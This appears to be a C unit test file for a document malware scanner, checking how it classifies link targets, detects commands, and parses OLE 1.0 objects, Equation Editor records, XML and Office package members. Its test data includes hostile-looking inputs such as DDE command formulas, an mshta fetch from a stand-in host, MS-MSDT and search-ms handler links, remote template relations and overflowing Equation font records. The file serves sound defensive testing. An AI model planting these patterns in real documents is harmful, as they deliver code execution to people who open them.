/* What documents point to, embed and say: targets, commands, OLE 1.0 objects,
   formulas, XML, members of packages. */

#include "warden-config.h"

#include "scanner/parse/document/equation.h"
#include "scanner/parse/office/office-target.h"
#include "scanner/parse/office/ole1.h"
#include "scanner/parse/document/package.h"
#include "scanner/parse/document/xml.h"

#include <string.h>

/* --- targets ------------------------------------------------------------ */

static void test_kinds(void)
{
	static const struct {
		const char *target;
		enum warden_target_kind kind;
	} rows[] = {
		{ "", WARDEN_TARGET_LOCAL },
		{ "media/image1.png", WARDEN_TARGET_LOCAL },
		{ "C:\\x\\y.dot", WARDEN_TARGET_LOCAL },
		{ "file:///C:\\x\\y.dot", WARDEN_TARGET_LOCAL },
		{ "file:///C|/x", WARDEN_TARGET_LOCAL },
		{ "file:x.doc", WARDEN_TARGET_LOCAL },
		{ "\\\\fs1\\x", WARDEN_TARGET_INTRANET },
		{ "//fs1/x", WARDEN_TARGET_INTRANET },
		{ "file://fs1/x", WARDEN_TARGET_INTRANET },
		{ "file:///\\\\fs1\\x", WARDEN_TARGET_INTRANET },
		{ "\\\\fs.corp.local\\x", WARDEN_TARGET_INTRANET },
		{ "\\\\192.168.1.2\\x", WARDEN_TARGET_INTRANET },
		{ "http://intranet/x.dot", WARDEN_TARGET_INTRANET },
		{ "http://10.0.0.1/x.dot", WARDEN_TARGET_INTRANET },
		{ "\\\\a.example\\x", WARDEN_TARGET_SHARE },
		{ "file://a.example/x", WARDEN_TARGET_SHARE },
		{ "file:///\\\\a.example\\x", WARDEN_TARGET_SHARE },
		{ "\\\\a.example@SSL\\DavWWWRoot\\x", WARDEN_TARGET_SHARE },
		{ "\\\\203.0.113.1@80\\x", WARDEN_TARGET_SHARE },
		{ "http://a.example/x", WARDEN_TARGET_WEB },
		{ " HTTPS://a.example/x", WARDEN_TARGET_WEB },
		{ "ht%74p://a.example/x", WARDEN_TARGET_WEB },
		{ "ftp://a.example/x", WARDEN_TARGET_WEB },
		{ "http://3221225985/x", WARDEN_TARGET_WEB },
		{ "mailto:a@b.example", WARDEN_TARGET_MAIL },
		{ "mhtml:http://a.example/x", WARDEN_TARGET_HANDLER },
		{ "MS-MSDT:/id", WARDEN_TARGET_HANDLER },
		{ "search-ms:query=x", WARDEN_TARGET_HANDLER },
		{ "http://a.example/x.html!", WARDEN_TARGET_HANDLER },
		{ "http://a.example/x.html!?y", WARDEN_TARGET_HANDLER },
		{ "http://a.example/x!x-usc:http://b.example/",
		  WARDEN_TARGET_HANDLER },
		{ "javascript:void(0)", WARDEN_TARGET_INERT },
	};
	gsize i;

	for (i = 0; i < G_N_ELEMENTS(rows); i++) {
		g_test_message("%s", rows[i].target);
		g_assert_cmpint(warden_target_kind(rows[i].target), ==,
				rows[i].kind);
	}
}

static void test_commands(void)
{
	static const struct {
		const char *text;
		bool command;
	} rows[] = {
		{ "cmd", TRUE },
		{ "c^m^d /c x", TRUE },
		{ "CMD.EXE", TRUE },
		{ "=cmd", TRUE },
		{ "c:\\windows\\system32\\calc.exe", TRUE },
		{ "MSEXCEL\\..\\..\\Windows\\System32\\cmd.exe /c x", TRUE },
		{ "C:\\\\Programs\\\\x\\\\..\\\\cmd.exe", TRUE },
		{ "powershell -nop", TRUE },
		{ "start mshta http://a.example", TRUE },
		{ "rundll32 x,y", TRUE },
		{ "Excel", FALSE },
		{ "Excel.Sheet.8 C:\\data\\prices.xls", FALSE },
		{ "BLP|M", FALSE },
		{ "the control of quality", FALSE },
		{ "documents about cmd and bash", FALSE },
		{ "cmdline", FALSE },
		{ "mypowershellnotes", FALSE },
		{ "", FALSE },
	};
	gsize i;

	for (i = 0; i < G_N_ELEMENTS(rows); i++) {
		g_test_message("%s", rows[i].text);
		g_assert_cmpint(warden_target_is_command(rows[i].text), ==,
				rows[i].command);
	}
}

/* --- OLE 1.0 ------------------------------------------------------------ */

#define TEXT(length, text) length "\0\0\0" text "\0"

static void test_ole1(void)
{
	static const char embedded[] = "\1\5\0\0\2\0\0\0" TEXT("\2", "A")
		"\0\0\0\0" "\0\0\0\0" "\3\0\0\0" "xyz" "more";
	static const char linked[] = "\0\0\0\0\1\0\0\0" TEXT("\2", "A")
		TEXT("\3", "b:") "\0\0\0\0";
	struct warden_ole1 ole1;
	gsize i;

	g_assert_true(warden_ole1_read((const guint8 *)embedded,
				       sizeof(embedded) - 1, &ole1));
	g_assert_false(ole1.linked);
	g_assert_cmpstr(ole1.class_name, ==, "A");
	g_assert_cmpmem(embedded + ole1.start, ole1.size, "xyz", 3);
	warden_ole1_clear(&ole1);
	g_assert_true(warden_ole1_read((const guint8 *)linked,
				       sizeof(linked) - 1, &ole1));
	g_assert_true(ole1.linked);
	g_assert_cmpstr(ole1.topic, ==, "b:");
	warden_ole1_clear(&ole1);
	for (i = 0; i < 24; i++) {
		g_autofree guint8 *cut = g_memdup2(embedded, i);

		g_assert_false(warden_ole1_read(cut, i, &ole1));
	}
}

static void test_package(void)
{
	static const char file[] = "\2\0" "a.exe\0" "C:\\a.exe\0" "\0\0\3\0"
		"\4\0\0\0" "C:x\0" "\3\0\0\0" "xyz";
	struct warden_ole1_package package;
	gsize i;

	g_assert_true(warden_ole1_package_read(
		(const guint8 *)file, sizeof(file) - 1, &package));
	g_assert_cmpstr(package.label, ==, "a.exe");
	g_assert_cmpstr(package.path, ==, "C:\\a.exe");
	g_assert_cmpmem(file + package.start, package.size, "xyz", 3);
	warden_ole1_package_clear(&package);
	for (i = 0; i < sizeof(file) - 4; i++) {
		g_autofree guint8 *cut = g_memdup2(file, i);

		g_assert_false(warden_ole1_package_read(cut, i, &package));
	}
}

static void test_monikers(void)
{
	static const guint8 data[] =
		"xx\xe0\xc9\xea\x79\xf9\xba\xce\x11\x8c\x82\x00\xaa\x00\x4b"
		"\xa9\x0b\x0a\0\0\0h\0:\0/\0/\0\0\0"
		"yy\x03\x03\0\0\0\0\0\0\xc0\0\0\0\0\0\0\x46\0\0\4\0\0\0c:x\0";
	g_autofree char *first = NULL, *second = NULL;
	gsize at = 0;

	first = warden_ole1_next_moniker(data, sizeof(data) - 1, &at);
	g_assert_cmpstr(first, ==, "h://");
	second = warden_ole1_next_moniker(data, sizeof(data) - 1, &at);
	g_assert_cmpstr(second, ==, "c:x");
	g_assert_null(warden_ole1_next_moniker(data, sizeof(data) - 1, &at));
}

static void test_equation(void)
{
	static const struct {
		const char *purpose, *data;
		gsize size;
		bool overflows;
	} rows[] = {
#define ROW(purpose, data, overflows) \
	{ purpose, data, sizeof(data) - 1, overflows }
		ROW("nothing", "", FALSE),
		ROW("a font", "\3\1\1\3\0\12\1\10\x81\0Times\0\0", FALSE),
		ROW("a long font", "\3\1\1\3\0\12\1\10ZZ"
		    "AAAAAAAAAABBBBBBBBBBCCCCCCCCCCDDDDDDDDDD\0", TRUE),
		ROW("a font without end", "\3\1\1\3\0\12\1\10ZZ"
		    "AAAAAAAAAABBBBBBBBBBCCCCCCCCCCDDDDDDDDDD", TRUE),
		ROW("a matrix", "\3\1\1\3\0\5\0\0\0\2\2\0\0\0", FALSE),
		ROW("a large matrix", "\3\1\1\3\0\5\0\0\0\x7f\2", TRUE),
		ROW("what follows an unknown record", "\3\1\1\3\0\17\10ZZ"
		    "AAAAAAAAAABBBBBBBBBBCCCCCCCCCCDDDDDDDDDD\0", FALSE),
	};
	gsize i;

	for (i = 0; i < G_N_ELEMENTS(rows); i++) {
		g_autofree guint8 *copy = g_memdup2(rows[i].data,
						    rows[i].size);

		g_test_message("%s", rows[i].purpose);
		g_assert_cmpint(warden_equation_overflows(copy, rows[i].size),
				==, rows[i].overflows);
	}
}

/* --- XML ---------------------------------------------------------------- */

/* Events as text: "<name attribute>", "</name>", "text". */
static char *scan(const char *text, gsize size)
{
	GString *out = g_string_new(NULL);
	struct warden_xml xml;
	enum warden_xml_event event;

	warden_xml_init(&xml, text, size);
	while ((event = warden_xml_next(&xml)) != WARDEN_XML_END) {
		g_autofree char *a = NULL;

		switch (event) {
		case WARDEN_XML_OPEN:
			a = warden_xml_attribute(&xml, "a", 10);
			g_string_append_printf(out, "<%.*s%s%s>",
					       (int)xml.name_size, xml.name,
					       a == NULL ? "" : " ",
					       a == NULL ? "" : a);
			break;
		case WARDEN_XML_CLOSE:
			g_string_append_printf(out, "</%.*s>",
					       (int)xml.name_size, xml.name);
			break;
		default:
			warden_xml_append_text(&xml, out, G_MAXSIZE);
			break;
		}
	}
	return g_string_free(out, FALSE);
}

static void test_xml(void)
{
	static const struct {
		const char *text, *events;
	} rows[] = {
		{ "<a>b</a>", "<a>b</a>" },
		{ "<x:a/>", "<a></a>" },
		{ "<a y:a='1' b=\"2\"/>", "<a 1></a>" },
		{ "<a b='a=9' a = \"&#x41;&amp;&#66;\">", "<a A&B>" },
		{ "<a b='>' a='1'>", "<a 1>" },
		{ "<a a=1 >", "<a 1>" },
		{ "&lt;&unknown;&#0;&#xd800;&", "<&unknown;&" },
		{ "<![CDATA[<b>&amp;]]>c", "<b>&amp;c" },
		{ "<!-- <a> --><?b <c> ?>d", "d" },
		{ "<!DOCTYPE x SYSTEM 'y'><z>", "<z>" },
		{ "<!DOCTYPE x [<!ENTITY y 'z'>]><a>&y;", "]><a>&y;" },
		{ "<a", "<a>" }, { "<a b='", "<a>" }, { "</", "</>" },
		{ "<![CDATA[x", "x" }, { "<", "<>" },
	};
	gsize i;

	for (i = 0; i < G_N_ELEMENTS(rows); i++) {
		gsize size = strlen(rows[i].text);
		g_autofree char *copy = g_memdup2(rows[i].text, size);
		g_autofree char *events = scan(copy, size);

		g_assert_cmpstr(events, ==, rows[i].events);
	}
}

/* --- members of packages ------------------------------------------------ */

#define RELATION(type, target) \
	"<Relationships><Relationship Id='r1' Type='http://x/" type "' " \
	"Target='" target "' TargetMode='External'/></Relationships>"

static const struct member_row {
	const char *purpose, *name, *text;
	const char *trait;	/* NULL: none */
	const char *url, *shown;	/* NULL: none */
} member_rows[] = {
	{ "a template", "word/_rels/settings.xml.rels",
	  RELATION("attachedTemplate", "http://a.example/t"),
	  "office-remote-template", "http://a.example/t", "" },
	{ "no relations by name", "word/settings.xml",
	  RELATION("attachedTemplate", "http://a.example/t"), NULL, NULL,
	  NULL },
	{ "a frame", "word/_rels/webSettings.xml.rels",
	  RELATION("frame", "http://a.example/f"), "office-remote-object",
	  "http://a.example/f", "" },
	{ "a picture", "word/_rels/document.xml.rels",
	  RELATION("image", "http://a.example/p.png"),
	  "office-remote-picture", "http://a.example/p.png", "" },
	{ "another workbook", "xl/_rels/x.xml.rels",
	  RELATION("externalLinkPath", "http://a.example/w"),
	  "office-remote-data", "http://a.example/w", "" },
	{ "a link", "x/_rels/y.xml.rels",
	  RELATION("hyperlink", "http://a.example/l"), NULL,
	  "http://a.example/l", "" },
	{ "a simple field", "d.xml", "<w:fldSimple w:instr='HYPERLINK "
	  "\"http://a.example/l\"'><w:t>here</w:t></w:fldSimple>", NULL,
	  "http://a.example/l", "here" },
	{ "text outside fields", "d.xml",
	  "<w:t>DDEAUTO cmd.exe</w:t>", NULL, NULL, NULL },
	{ "a web query", "xl/connections.xml",
	  "<connection><webPr url='http://a.example/q'/></connection>",
	  "office-remote-data", "http://a.example/q", "" },
	{ "a formula", "s.xml", "<c><f>WEBSERVICE(\"http://a.example/q\")"
	  "</f></c>", "office-remote-data", "http://a.example/q", "" },
	{ "a formula's link", "s.xml", "<f>HYPERLINK(\"http://a.example/q\","
	  "\"a \"\"b\"\"\")</f>", NULL, "http://a.example/q", "a \"b\"" },
	{ "a command", "s.xml", "<f>cmd|'/c x'!A0</f>", "office-dde-command",
	  NULL, NULL },
	{ "a bar in a text", "s.xml", "<f>A1&amp;\"cmd|x!y\"</f>", NULL, NULL,
	  NULL },
	{ "a DDE call", "content.xml", "<table:table-cell table:formula="
	  "'of:=DDE(&quot;cmd&quot;;&quot;/c x&quot;;&quot;a&quot;)'/>",
	  "office-dde-command", NULL, NULL },
	{ "an anchor", "content.xml", "<text:a xlink:href='http://a.example/'>"
	  "a <text:span>b</text:span></text:a>", NULL, "http://a.example/",
	  "a b" },
	{ "entities", "a.xml", "<!DOCTYPE a [<!ENTITY b 'c'>]><a/>",
	  "office-xml-entities", NULL, NULL },
	{ "a control", "a.xml", "<ax:ocx ax:classid='{1}'/>",
	  "office-activex", NULL, NULL },
	{ "a formula's editor", "a.xml", "<o:OLEObject ProgID='Equation.3'/>",
	  "office-equation", NULL, NULL },
};

static void check_member(const struct member_row *row)
{
	struct warden_facts *facts = warden_facts_new();
	struct warden_part *part = warden_facts_add_part(facts, "1", "a");
	struct warden_parser parser = { .magic = NULL };
	struct warden_queue *queue = warden_queue_new(&parser, facts, 1000);
	struct warden_package *package = warden_package_new(queue, part);
	GBytes *bytes = g_bytes_new(row->text, strlen(row->text));

	g_test_message("%s", row->purpose);
	g_assert_false(warden_package_take(package, row->name, bytes));
	warden_package_finish(package);
	g_assert_cmpuint(facts->traits->len, ==, row->trait != NULL);
	if (row->trait != NULL) {
		const struct warden_trait *trait = facts->traits->pdata[0];

		g_assert_cmpstr(trait->code, ==, row->trait);
	}
	g_assert_cmpuint(facts->urls->len, ==, row->url != NULL);
	if (row->url != NULL) {
		const struct warden_url *url = facts->urls->pdata[0];

		g_assert_cmpstr(url->url, ==, row->url);
		g_assert_cmpstr(url->text, ==, row->shown);
		g_assert_cmpstr(url->source, ==, "office");
	}
	g_bytes_unref(bytes);
	warden_package_free(package);
	warden_queue_free(queue);
	warden_facts_free(facts);
}

static void test_members(void)
{
	gsize i;

	for (i = 0; i < G_N_ELEMENTS(member_rows); i++)
		check_member(&member_rows[i]);
}

int main(int argc, char **argv)
{
	g_test_init(&argc, &argv, NULL);
	g_test_add_func("/document/kinds", test_kinds);
	g_test_add_func("/document/commands", test_commands);
	g_test_add_func("/document/ole1", test_ole1);
	g_test_add_func("/document/package", test_package);
	g_test_add_func("/document/monikers", test_monikers);
	g_test_add_func("/document/equation", test_equation);
	g_test_add_func("/document/xml", test_xml);
	g_test_add_func("/document/members", test_members);
	return g_test_run();
}
